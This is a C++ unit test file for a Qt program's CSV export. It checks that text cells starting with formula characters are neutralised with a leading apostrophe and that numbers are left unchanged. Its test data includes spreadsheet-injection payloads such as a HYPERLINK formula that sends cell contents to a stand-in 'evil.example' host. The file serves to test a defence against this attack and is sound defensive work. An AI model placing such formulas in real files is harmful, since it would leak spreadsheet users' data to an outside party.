// SPDX-License-Identifier: GPL-3.0-or-later
// CSV injection (OWASP): text that a spreadsheet would run as a formula gets a leading apostrophe in
// every CSV the program writes for people (exports and `list … --format csv`); numbers stay numbers.
#include "TestSupport.h"

#include "cli/Output.h"
#include "io/CsvWriter.h"

#include <QJsonArray>
#include <QJsonObject>

using namespace rb;
using namespace Qt::Literals::StringLiterals;

namespace {

/// The body of a CSV file after its byte-order mark, as text.
QString csvText(const QByteArray& bytes)
{
    REQUIRE(bytes.startsWith("\xEF\xBB\xBF"));
    return QString::fromUtf8(bytes.mid(3));
}

} // namespace

TEST_CASE("csv formulas: text starting with = + - @ tab or CR gets a leading apostrophe", "[export][csv-formulas]")
{
    const QList<QVariantList> rows = {
        {u"=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点击\")"_s},
        {u"+1"_s},
        {u"-2+3"_s},
        {u"@SUM(A1)"_s},
        {u"\t=1"_s},
        {u"\r=1"_s},
    };
    const QString text = csvText(io::csvBytes({u"备注"_s}, rows));
    CHECK(text
          == u"备注\r\n\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"点击\"\")\"\r\n'+1\r\n'-2+3\r\n"
             "'@SUM(A1)\r\n'\t=1\r\n\"'\r=1\"\r\n"_s);
    for (const QVariantList& row : rows)
        CHECK(io::neutraliseFormula(row.first().toString()) == u'\'' + row.first().toString());
}

TEST_CASE("csv formulas: numbers, plain text and plain negative numbers in text stay as they are",
          "[export][csv-formulas]")
{
    const QList<QVariantList> rows = {
        {-3.5, qint64(-2), u"2025-FAC-0001"_s},
        {0.0, qint64(7), u"示例科技有限公司"_s},
        {QVariant(), u"-3.5"_s, u"a=b"_s},
        {u""_s, u"'=1"_s, u" =1"_s},
    };
    CHECK(csvText(io::csvBytes({u"得分"_s, u"数"_s, u"编号"_s}, rows))
          == u"得分,数,编号\r\n-3.5,-2,2025-FAC-0001\r\n0,7,示例科技有限公司\r\n,-3.5,a=b\r\n,'=1, =1\r\n"_s);
    CHECK(io::neutraliseFormula(QString()).isEmpty());
    CHECK(io::neutraliseFormula(u"-"_s) == u"'-"_s);
    CHECK(io::neutraliseFormula(u"-1e5"_s) == u"'-1e5"_s);
    CHECK(io::neutraliseFormula(u"-0.25"_s) == u"-0.25"_s);
    CHECK(io::neutraliseFormula(u"-12"_s) == u"-12"_s);
    CHECK(io::neutraliseFormula(u"-1-1"_s) == u"'-1-1"_s);
    CHECK(io::neutraliseFormula(u"-A1"_s) == u"'-A1"_s);
}

TEST_CASE("csv formulas: list --format csv neutralises text, never JSON numbers", "[cli][csv-formulas]")
{
    QString out;
    QTextStream stream(&out);
    const QStringList keys = {u"code"_s, u"title"_s, u"score"_s, u"tags"_s};
    const QList<QJsonObject> records = {
        {{u"code"_s, u"2025-FAC-0001"_s},
         {u"title"_s, u"=HYPERLINK(\"x\")"_s},
         {u"score"_s, -3.5},
         {u"tags"_s, QJsonArray{u"@SUM(A1)"_s, u"b"_s}}},
        {{u"code"_s, u"-2+3"_s}, {u"title"_s, u"+1"_s}, {u"score"_s, -2}, {u"tags"_s, QJsonArray{}}},
        {{u"code"_s, u"\t=1"_s}, {u"title"_s, u"-7"_s}, {u"score"_s, QJsonValue()}},
    };
    cli::writeRecords(stream, cli::Format::Csv, keys, records);
    stream.flush();
    CHECK(out
          == u"code,title,score,tags\n2025-FAC-0001,\"'=HYPERLINK(\"\"x\"\")\",-3.50,'@SUM(A1);b\n"
             "'-2+3,'+1,-2,\n'\t=1,-7,,\n"_s);
}

TEST_CASE("csv formulas: list applications --format csv from a round with a formula title", "[cli][csv-formulas]")
{
    test::RoundFixture f;
    const QString apps = f.dir.writeText(u"apps.csv"_s, u"code,applicant,credit_code,province,sector,title\n"
                                                        "S01,示例精密机械有限公司,91330100MA2AAAAA1E,浙江省,装备制造,"
                                                        "\"=HYPERLINK(\"\"http://evil.example\"\",\"\"看\"\")\"\n"_s);
    const test::CliRun imported = test::runCli({u"import"_s, u"applications"_s, f.path, apps});
    INFO(imported.err.toStdString());
    REQUIRE(imported.code == 0);
    const test::CliRun listed = test::runCli({u"list"_s, u"applications"_s, f.path, u"--format"_s, u"csv"_s});
    INFO(listed.err.toStdString());
    REQUIRE(listed.code == 0);
    CHECK(listed.out.contains(u",\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"看\"\")\""_s));
    CHECK(listed.out.contains(u"\nS01,"_s)); // codes untouched
    CHECK_FALSE(listed.out.contains(u",\"=HYPERLINK"_s));
}
